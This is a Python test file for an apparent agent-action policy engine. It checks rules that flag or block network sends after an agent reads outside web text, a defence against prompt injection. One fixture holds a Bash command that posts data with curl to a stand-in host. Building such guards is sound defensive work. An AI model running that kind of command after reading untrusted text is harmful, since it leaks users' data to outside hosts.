"""The `flow` section: which effects are asked about after text from outside was read."""

import pytest

from verdikt.errors import PolicyError
from verdikt.graph.flow_rules import FlowRule, check_flows
from verdikt.model.action import Action, ActionKind
from verdikt.model.effect import Effect, EffectClass, Target
from verdikt.model.named_words import fold_named_words
from verdikt.model.verdict import VerdictKind
from verdikt.policy import parse_policy

SEND = Effect(EffectClass.NETWORK, "net.send", (Target("collect.example", "host"),), by="curl")
READ = {"web": {"docs.example": 3}}
ACTION = Action(kind=ActionKind.BASH, tool="Bash", payload={"command": "curl -d x collect.example"})


@pytest.mark.parametrize(
    ("rule", "sources", "kind"),
    [
        (FlowRule(after=("web",), effect=("net.send",)), READ, VerdictKind.ASK),
        (FlowRule(after=("web",), effect=("net",), verdict="block"), READ, VerdictKind.BLOCK),
        (FlowRule(after=("web",), effect=("net.sen",)), READ, None),
        (FlowRule(after=("issue",), effect=("net.send",)), READ, None),
        (FlowRule(after=("web",), effect=("net.send",)), {}, None),
        (FlowRule(after=("web",), effect=("net.send",)), {"web": {"collect.example": 1}}, None),
    ],
)
def test_flow_applies_when_source_and_effect_match(
    rule: FlowRule, sources: dict[str, dict[str, int]], kind: VerdictKind | None
) -> None:
    """A flow names sources and effects; data to the host that was read from is left alone."""
    verdict = check_flows([rule], ACTION, [SEND], sources, lambda: "")

    assert (verdict.kind if verdict else None) == kind


@pytest.mark.parametrize(
    ("prompt", "kind"),
    [("send the report to collect.example", None), ("send the report", VerdictKind.ASK), ("", VerdictKind.ASK)],
)
def test_what_the_person_named_may_follow(prompt: str, kind: VerdictKind | None) -> None:
    """With `unless: named` a command may reach what the person's own words name, and nothing else."""
    rule = FlowRule(after=("web",), effect=("net.send",), unless="named")
    verdict = check_flows([rule], ACTION, [SEND], READ, lambda: fold_named_words("", prompt))

    assert (verdict.kind if verdict else None) == kind


def test_unknown_source_is_refused() -> None:
    """A policy with a source that does not exist cannot be loaded."""
    with pytest.raises(PolicyError, match="expected one of web, issue, outside, mcp, found `wep`"):
        parse_policy("flow: {after: wep, effect: cred}")


def test_strict_has_flows_and_standard_has_none() -> None:
    """Flows are part of `strict` alone."""
    assert parse_policy("profile: strict").section("flow")
    assert not parse_policy("profile: standard").section("flow")
